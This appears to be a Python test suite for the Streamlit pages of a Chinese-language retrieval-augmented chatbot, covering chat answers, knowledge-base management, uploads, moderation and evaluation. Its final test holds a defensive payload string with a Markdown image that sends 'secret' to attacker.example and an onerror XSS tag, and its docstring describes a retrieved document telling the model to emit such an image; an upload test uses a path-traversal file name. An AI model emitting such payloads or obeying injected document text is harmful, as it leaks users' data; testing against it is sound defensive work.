"""Every UI page through streamlit.testing's AppTest: the real page scripts over real knowledge bases."""

from __future__ import annotations

import re

from streamlit.testing.v1 import AppTest

from ingest.kb import KnowledgeBase
from llm.feedback import load_feedback
from tests.ui_helpers import PAGES, TIMEOUT


def page(name: str) -> AppTest:
    return AppTest.from_file(str(PAGES / name), default_timeout=TIMEOUT).run()


def test_chat_answers_with_a_source_card_and_saves_feedback(demo_kb):
    at = page("chat.py")
    assert at.sidebar.selectbox(key="kb").value == "demo"
    at.chat_input[0].set_value("一线城市住宿标准是多少？").run()
    assistant = [m for m in at.chat_message if m.name == "assistant"][0]
    text = " ".join(md.value for md in assistant.markdown)
    assert "600元" in text and "[1]" in text
    assert "差旅报销制度.md" in text, "a source card names the document"
    assert any("抽取式" in md.value for md in assistant.markdown), "mode badge"
    assert any(e.label == "查看完整段落" for e in assistant.expander)

    at.button(key="fb-up-0").click().run()  # the first answer's 👍
    records = load_feedback(demo_kb)
    assert records[-1]["rating"] == "up" and "600元" in records[-1]["answer"] and records[-1]["citations"]


def test_chat_follow_up_uses_history_and_new_conversation_clears_it(demo_kb):
    at = page("chat.py")
    at.chat_input[0].set_value("知问网关的性能怎么样？").run()
    at.chat_input[0].set_value("它的延迟是多少?").run()
    assert len([m for m in at.chat_message if m.name == "assistant"]) == 2
    assert "知问网关产品说明.html" in " ".join(md.value for md in at.chat_message[-1].markdown)
    at.sidebar.button[0].click().run()
    assert len(at.chat_message) == 0


def test_chat_refusal_is_badged(demo_kb):
    at = page("chat.py")
    at.chat_input[0].set_value("火星上有多少颗卫星？").run()
    assistant = at.chat_message[-1]
    assert any("抱歉" in md.value for md in assistant.markdown)
    assert any("拒答" in md.value for md in assistant.markdown)


def test_chat_without_any_kb_says_what_to_do(data_dir):
    at = page("chat.py")
    assert "知识库管理" in at.info[0].value


def test_kb_page_creates_lists_and_deletes(data_dir):
    at = page("knowledge_bases.py")
    at.text_input(key="new-kb-name").set_value("手册")
    at.button[0].click().run()  # the form's submit button
    assert at.success[0].value.startswith("已创建")
    assert at.selectbox(key="kb").value == "手册"
    at.text_input(key="new-kb-name").set_value("手册")
    at.button[0].click().run()  # the same name again: an error, as the API's 409, not a silent success
    assert not at.success and "已存在" in at.error[0].value
    at.checkbox(key="confirm-delete-手册").check().run()
    [b for b in at.button if b.label == "删除整个知识库"][0].click().run()
    assert not (data_dir.kbs_dir / "手册").exists()


def test_kb_page_documents_delete_and_reindex(demo_kb):
    at = page("knowledge_bases.py")
    table = at.dataframe[0].value
    assert len(table) == 8 and "员工手册.txt" in set(table.iloc[:, 0])
    csv = next(s for s in at.selectbox(key="doc-choice").options if s.endswith("常见问题.csv"))
    at.selectbox(key="doc-choice").set_value(csv).run()
    [b for b in at.button if b.label == "重新索引"][0].click().run()
    assert "已重新索引" in at.success[0].value
    [b for b in at.button if b.label == "删除文档"][0].click().run()
    assert len(at.dataframe[0].value) == 8, "asks first"
    at.button(key="doc-delete-confirm").click().run()
    assert len(at.dataframe[0].value) == 7
    with KnowledgeBase.open("demo", demo_kb) as kb:
        assert all(not d.source.endswith(".csv") for d in kb.catalog.list_documents())


def test_kb_page_uploads_several_files_and_names_the_bad_one(demo_kb):
    at = page("knowledge_bases.py")
    good = "# 报销规定\n出差结束后十五个工作日内提交报销单。\n".encode("gbk")
    at.file_uploader[0].set_value([
        ("新规定.md", good, "text/markdown"),
        ("损坏.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 8, "application/pdf"),
        ("../../逃逸.txt", "路径穿越的文件名被去掉目录。".encode("utf-8"), "text/plain"),
    ]).run()
    [b for b in at.button if b.label == "导入"][0].click().run()
    assert any("损坏.pdf" in e.value and "PDF" in e.value for e in at.error), "the bad file is named with its reason"
    results = at.dataframe[0].value
    status = dict(zip(results.iloc[:, 0], results.iloc[:, 1]))
    assert status["新规定.md"] == "已索引" and status["逃逸.txt"] == "已索引" and status["损坏.pdf"] == "失败"
    docs = at.dataframe[1].value
    assert {"新规定.md", "逃逸.txt"} <= set(docs.iloc[:, 0])
    uploads = demo_kb.data_dir / "uploads" / "demo"
    stored = sorted(p.name for p in uploads.iterdir() if p.is_file())
    assert len(stored) == 2 and all(re.fullmatch(r"[0-9a-f]{32}\.(md|txt)", n) for n in stored), "stored under generated names"
    assert not (demo_kb.data_dir.parent / "逃逸.txt").exists()


def test_moderation_page_edits_rules_that_apply_at_once(data_dir):
    from moderation.moderator import moderator_for

    at = AppTest.from_file(str(PAGES / "moderation.py"), default_timeout=TIMEOUT).run()
    categories = set(at.dataframe[0].value.iloc[:, 0])
    assert {"金融合规", "暴力与危险物品", "辱骂", "政治敏感", "个人信息"} <= categories
    at.selectbox(key="mod-category").set_value("compliance").run()
    area = at.text_area(key="mod-words-compliance")
    area.set_value(area.value + "绝对安全\n").run()
    [b for b in at.button if b.label == "保存"][0].click().run()
    assert at.success[0].value.startswith("已保存")
    assert moderator_for(data_dir).check("这个产品绝对安全", "answer").findings, "applied without a restart"
    at.text_input(key="mod-try").set_value("手机13800138000").run()
    assert "＊" in at.warning[0].value


def test_two_sessions_never_see_each_others_chats(demo_kb):
    alice, bob = page("chat.py"), page("chat.py")
    alice.chat_input[0].set_value("一线城市住宿标准是多少？").run()
    bob.chat_input[0].set_value("资安事件多久内要通报？").run()
    alice_text = " ".join(md.value for m in alice.chat_message for md in m.markdown)
    bob_text = " ".join(md.value for m in bob.chat_message for md in m.markdown)
    assert "600元" in alice_text and "資安" not in alice_text
    assert "資安" in bob_text and "600元" not in bob_text


def test_evaluation_page_shows_a_run_and_compares_two(demo_kb, tmp_path):
    from eval.dataset import QAItem, write_dataset
    from eval.report import write_report
    from eval.runner import run_eval

    dataset = tmp_path / "qa.jsonl"
    write_dataset([QAItem(id="t", question="一线城市住宿标准是多少？", answers=["每晚不超过600元"], relevant_sources=["差旅报销制度.md"]),
                   QAItem(id="m", question="火星上有多少颗卫星？", answerable=False)], dataset)
    for name, top_k in (("a", 5), ("b", 1)):
        s = demo_kb.model_copy(update={"top_k": top_k})
        write_report(tmp_path / name, run_eval(dataset, "demo", tmp_path / name, s), {"dataset": str(dataset), "kb": "demo"})
    at = AppTest.from_file(str(PAGES / "evaluation.py"), default_timeout=TIMEOUT).run()
    at.text_input(key="eval-a").set_value(str(tmp_path / "a")).run()
    table = at.dataframe[0].value
    assert dict(zip(table["指标"], table["值"]))["命中率@5"] == "1.000"
    assert any("火星" in e.label for e in at.expander)
    at.text_input(key="eval-b").set_value(str(tmp_path / "b")).run()
    assert list(at.dataframe[0].value.columns) == ["指标", "A", "B", "B − A"]


def test_answer_text_cannot_smuggle_images_links_or_html_into_the_page():
    """A document may tell the model to emit an image whose URL carries data out; rendered answers
    (and each streamed token) are inert Markdown. Checked with a CommonMark renderer (markdown-it)."""
    from markdown_it import MarkdownIt

    from app.ui.render import inert

    evil = "住宿600元[1]。![x](https://attacker.example/?q=secret) [点我](https://attacker.example) <img src=x onerror=alert(1)> <https://a.example>"
    md = MarkdownIt("commonmark")
    assert "<img" in md.render(evil) and "<a " in md.render(evil), "the payload is live without inert()"
    safe = md.render(inert(evil))
    assert "<img" not in safe and "<a " not in safe and "住宿600元[1]。" in safe
    streamed = md.render("".join(inert(tok) for tok in ["![x", "](https://attacker.example/?q=s)"]))
    assert "<img" not in streamed
